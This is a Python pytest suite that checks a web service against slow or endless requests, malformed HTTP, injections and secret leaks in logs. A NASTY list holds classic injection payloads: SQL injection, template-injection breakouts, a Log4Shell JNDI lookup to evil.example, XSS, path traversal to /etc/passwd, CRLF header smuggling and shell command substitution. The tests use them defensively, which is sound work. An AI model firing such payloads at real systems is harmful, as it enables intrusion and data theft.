"""Who means harm: slow and endless requests, secrets that must not be told, and injections by name."""

from __future__ import annotations

import base64
import json
import socket
import threading
import time

import pytest

from botopt.model.delivery import Refused
from botopt.runtime.items import Overloaded, Stopping
from botopt.runtime.readers import Readers
from botopt.server.connections import Connection
from botopt.server.limits import Limits
from botopt.server.logs import LogFormat
from botopt.server.site import Settings
from botopt.server.webhook_signatures import read_secrets
from tests.server.house import KEYS, NOW, SECRETS, event, house

DEADLINE_S = 10.0
REQUEST = b"POST /v1/events HTTP/1.1\r\nhost: x\r\nx-api-key: " + KEYS["ingest"].encode() + b"\r\n"


def talk(port: int, *parts: bytes, wait: float = 0.0) -> bytes:
    """What a server says to these bytes, until it closes the connection or the deadline is over."""
    with socket.create_connection(("127.0.0.1", port), timeout=DEADLINE_S) as connection:
        for part in parts:
            connection.sendall(part)
            if wait:
                threading.Event().wait(wait)
        heard = b""
        connection.settimeout(DEADLINE_S)
        while True:
            try:
                piece = connection.recv(65_536)
            except ConnectionResetError:
                return heard
            if not piece:
                return heard
            heard += piece


@pytest.fixture
def impatient(tmp_path, policy, monkeypatch):
    monkeypatch.setattr(Connection, "head_seconds", 0.3)
    with house(tmp_path, policy, settings=Settings(limits=Limits(body_seconds=0.3))) as live:
        yield live


@pytest.mark.parametrize("begun", [b"", b"POST /v1/ev", REQUEST])
def test_who_does_not_say_what_they_want_is_hung_up_on(impatient, begun):
    started = time.monotonic()
    assert talk(impatient.port, begun) == b""
    assert time.monotonic() - started < DEADLINE_S - 1


def test_a_second_request_on_a_connection_has_the_same_time(impatient):
    answer = talk(impatient.port, b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n", b"GET /hea", wait=0.05)
    assert answer.count(b"HTTP/1.1 200") == 1


def test_a_body_that_does_not_come_is_408(impatient):
    head = REQUEST + b"content-type: application/json\r\ncontent-length: 100\r\n\r\n"
    assert talk(impatient.port, head + b"{").startswith(b"HTTP/1.1 408")
    assert talk(impatient.port, head).startswith(b"HTTP/1.1 408")


def test_headers_without_end_are_431(impatient):
    answer = talk(impatient.port, REQUEST + b"x-long: " + b"a" * 100_000)
    assert answer.startswith(b"HTTP/1.1 431") or answer == b""


def test_who_goes_on_after_a_refusal_is_heard_for_a_while_and_hung_up_on(impatient):
    long = b"content-type: application/json\r\ncontent-length: 100000000\r\n\r\n"
    heard = talk(impatient.port, REQUEST + long + b" " * 300_000)
    assert heard.startswith(b"HTTP/1.1 413")


def test_a_refused_body_does_not_spoil_the_next_request(shared):
    long = b"content-type: application/json\r\ncontent-length: 2000000\r\n\r\n" + b" " * 2_000_000
    following = b"GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n"
    heard = talk(shared.port, REQUEST + long, following)
    assert [heard.count(status) for status in (b"HTTP/1.1 413", b"HTTP/1.1 200")] == [1, 1]


def test_many_long_headers_are_431(shared):
    answer = shared.client.get("/healthz", headers={f"x-{n}": "a" * 1_000 for n in range(20)})
    assert (answer.status_code, answer.json()["type"]) == (431, "urn:botopt:problem:headers")


def test_too_many_requests_at_once_are_503(tmp_path, policy):
    with house(tmp_path, policy, settings=Settings(limits=Limits(requests=1))) as live:
        live.running.waits = threading.Event()
        thread = threading.Thread(target=lambda: live.post(event("e1")))
        thread.start()
        for _ in range(500):
            if live.running.received:
                break
            threading.Event().wait(0.01)
        answer = live.post(event("e2"))
        live.running.waits.set()
        thread.join(DEADLINE_S)
        assert (answer.status_code, answer.headers["retry-after"]) == (503, "1")
        assert live.post(event("e3")).status_code == 202


def test_probes_are_answered_however_many_requests_there_are(tmp_path, policy):
    with house(tmp_path, policy, settings=Settings(limits=Limits(requests=0), open_metrics=True)) as live:
        assert live.post(event("e1")).status_code == 503
        for path in ("/healthz", "/readyz", "/metrics"):
            assert live.client.get(path).status_code == 200


def test_readers_that_are_all_busy_are_429_and_gone_ones_503(live, monkeypatch):
    for fault, status in ((Overloaded(2), 429), (Stopping("the service has ended"), 503)):
        for name in ("reader", "status", "explain"):
            monkeypatch.setattr(live.running, name, _raising(fault))
        monkeypatch.setattr(live.site, "_readers", Readers(_raising(fault)))
        answers = [
            live.get("/v1/decisions"),
            live.get("/v1/users/ada"),
            live.get("/metrics"),
            live.post(event("e1"), "read", "/v1/explain"),
        ]
        assert [answer.status_code for answer in answers] == [status] * len(answers)
        assert all(answer.headers["retry-after"] in {"2", "5"} for answer in answers)
        assert live.get("/readyz").status_code == 503


def _raising(fault: Exception):
    def call(*_: object, **__: object) -> object:
        raise fault

    return call


def test_bodies_that_wait_take_bounded_memory(tmp_path, policy):
    limits = Limits(body=1 << 20, bodies=100_000)
    with house(tmp_path, policy, settings=Settings(limits=limits)) as live:
        headers = {"content-type": "application/json", "x-api-key": KEYS["ingest"]}
        answer = live.client.post("/v1/events", content=(b" " * 50_000 for _ in range(10)), headers=headers)
        assert (answer.status_code, answer.json()["type"]) == (503, "urn:botopt:problem:busy")
        assert live.post(event()).status_code == 202


@pytest.mark.parametrize(
    "after",
    [b"no http\r\n\r\n", b"", b"POST /v1/events HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n"],
)
def test_who_breaks_off_while_an_answer_is_being_found_makes_no_internal_error(live, after):
    """The events were taken; their answer, or another one in its place, is not written to a closed connection."""
    body = json.dumps(event("e1")).encode()
    head = REQUEST + b"content-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body)
    live.running.waits = threading.Event()
    with socket.create_connection(("127.0.0.1", live.port), timeout=DEADLINE_S) as connection:
        connection.sendall((head + body) * 2 + after)
        for _ in range(500):
            if live.running.received:
                break
            threading.Event().wait(0.01)
        if after:
            assert connection.recv(100) == b""
    for _ in range(500):  # until the server knows that they are gone
        if "Invalid HTTP" in live.log.getvalue() or not after:
            break
        threading.Event().wait(0.01)
    live.running.waits.set()
    assert live.post(event("e2")).status_code == 202
    live.stop()
    assert "internal_error" not in live.log.getvalue()


def test_half_a_request_and_a_reset_leave_nothing_behind(live):
    for _ in range(20):
        with socket.create_connection(("127.0.0.1", live.port), timeout=DEADLINE_S) as connection:
            connection.sendall(REQUEST + b"content-type: application/json\r\ncontent-length: 500\r\n\r\n{")
    assert live.post(event()).status_code == 202
    assert len(live.running.received) == 1


@pytest.mark.parametrize(
    "raw",
    [
        b"GET /healthz HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"\x00\x01\x02\x03\r\n\r\n",
        b"GET /\xff\xfe HTTP/1.1\r\nhost: x\r\n\r\n",
        b"GET http://[::1 HTTP/1.1\r\nhost: x\r\n\r\n",
        b"GET /healthz HTTP/1.1\r\nhost: x\r\nx: a\x00b\r\n\r\n",
    ],
)
def test_what_is_no_http_is_refused_by_4xx_or_a_closed_door(shared, raw):
    with socket.create_connection(("127.0.0.1", shared.port), timeout=2) as connection:
        connection.sendall(raw)
        heard = connection.recv(4_096)
    assert heard == b"" or heard.startswith((b"HTTP/1.1 4", b"HTTP/1.1 200")), heard
    assert shared.client.get("/healthz").status_code == 200


# ---------------------------------------------------------------- injections

NASTY = [
    "ada'; DROP TABLE users; --",
    "' OR '1'='1",
    "{{ 7777 * 7777 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "%0d%0aset-cookie: a=b",
    "$(id)",
    "`id`",
]


@pytest.mark.parametrize("text", NASTY)
def test_injections_are_texts_like_others(shared, text):
    answer = shared.post(event(f"n{NASTY.index(text)}", user=text, reason=text), params={"wait": "true"})
    assert answer.status_code == 202
    assert "60481729" not in str(answer.json()["events"][0]["decisions"][0]["message"])
    found = shared.get("/v1/decisions", params={"user": text}).json()["decisions"]
    assert [decision["user"] for decision in found] == [text]
    assert shared.get("/v1/decisions", params={"user": text + "x"}).json()["decisions"] == []
    assert shared.post(event("x", user=text), "read", path="/v1/explain").status_code == 200


@pytest.mark.parametrize("name", ["origin", "request-id", "key", "trace"])
@pytest.mark.parametrize("value", ["a\r\nset-cookie: x=y", "a\nb", "a\x0bb", "\x85", "ü"])
def test_no_header_of_a_request_makes_one_of_the_answer(tmp_path_factory, shared, name, value):
    header = {
        "origin": "webhook-request-origin",
        "request-id": "x-request-id",
        "key": "idempotency-key",
        "trace": "traceparent",
    }[name]
    raw = (
        f"OPTIONS /v1/events HTTP/1.1\r\nhost: x\r\n{header}: ".encode()
        + value.encode()
        + b"\r\nconnection: close\r\n\r\n"
    )
    heard = talk(shared.port, raw).partition(b"\r\n\r\n")[0].lower()
    assert b"set-cookie" not in heard
    assert b"x=y" not in heard


def test_a_link_makes_no_header(live):
    from urllib.parse import unquote

    from botopt.server import clicking

    location = clicking.location("https://shop.example/ü?a=b\r\nset-cookie: x=y")
    assert location == "https://shop.example/%C3%BC?a=b%0D%0Aset-cookie:%20x=y"
    assert unquote(location).startswith("https://shop.example/ü")


# ---------------------------------------------------------------- secrets

PLANTED = {
    "an API key": SECRETS["ingest"],
    "a wrong key": "w" * 43,
    "a password": "hunter2hunter2",
    "a webhook secret": base64.b64encode(b"s" * 32).decode(),
    "a token in an address": "tokentokentoken",
    "a text": "the-text-of-the-reason",
}


def everything(live) -> str:
    """Ask for all there is, rightly and wrongly, and give back all that was said."""
    wrong = KEYS["ingest"][:-43] + PLANTED["a wrong key"]
    said = []

    def ask(method: str, path: str, **named: object) -> None:
        answer = live.client.request(method, path, **named)
        said.append(f"{answer.status_code} {answer.headers} {answer.text}")

    for headers in (
        {"x-api-key": KEYS["ingest"]},
        {"x-api-key": wrong},
        {"authorization": f"Bearer {wrong}"},
        {"authorization": "Basic " + base64.b64encode(b"a:hunter2hunter2").decode(), "cookie": "a=hunter2hunter2"},
        {"webhook-signature": f"v1,{PLANTED['a webhook secret']}", "webhook-id": "m", "webhook-timestamp": "1"},
    ):
        for path in ("/v1/events", "/v1/feedback", "/v1/explain"):
            for body in (event("e1", reason=PLANTED["a text"]), "{", [event(type="x")]):
                content = body if isinstance(body, str) else json.dumps(body)
                ask("POST", path, content=content, headers={**headers, "content-type": "application/json"})
        ask("GET", "/v1/decisions", headers=headers, params={"usr": "hunter2hunter2"})
        ask("DELETE", "/v1/users/ada", headers=headers)
    for path in (
        "/healthz",
        "/readyz",
        "/metrics",
        "/openapi.json",
        "/c/tokentokentoken",
        "/nope?token=hunter2hunter2",
    ):
        ask("GET", path)
    ask("POST", "/v1/channels/chat/callback?secret=hunter2hunter2", content=b"hunter2hunter2")
    live.running.refusal = ZeroDivisionError("hunter2hunter2")
    ask("POST", "/v1/events", json=event("e9"), headers={"x-api-key": KEYS["ingest"]})
    said.append(live.get("/metrics").text)
    return "\n".join(said)


class Careless:
    def receive(self, inbound):
        raise Refused(403, "the secret is wrong")


@pytest.mark.parametrize("format", [LogFormat.JSON, LogFormat.PRETTY])
def test_no_secret_is_told_in_any_log_answer_or_metric(tmp_path, policy, format):
    secrets = read_secrets("whsec_" + PLANTED["a webhook secret"])
    with house(tmp_path, policy, secrets=secrets, format=format, channels={"chat": Careless()}) as live:
        said = everything(live)
        live.site.log.error("end")
        log = live.log.getvalue()
        assert log.count("request") > 50
        for what, secret in PLANTED.items():
            assert secret not in log, f"{what} is in the log"
            assert secret not in said, f"{what} is in an answer"


def test_texts_are_logged_only_when_asked(tmp_path, policy):
    for asked in (False, True):
        folder = tmp_path / str(asked)
        folder.mkdir()
        with house(folder, policy, settings=Settings(log_texts=asked)) as live:
            [decision] = live.post(event("e1"), params={"wait": "1"}).json()["events"][0]["decisions"]
            live.site.log.error("end")
            assert (decision["message"]["text"] in live.log.getvalue()) is asked
            assert NOW[:4] in live.log.getvalue()
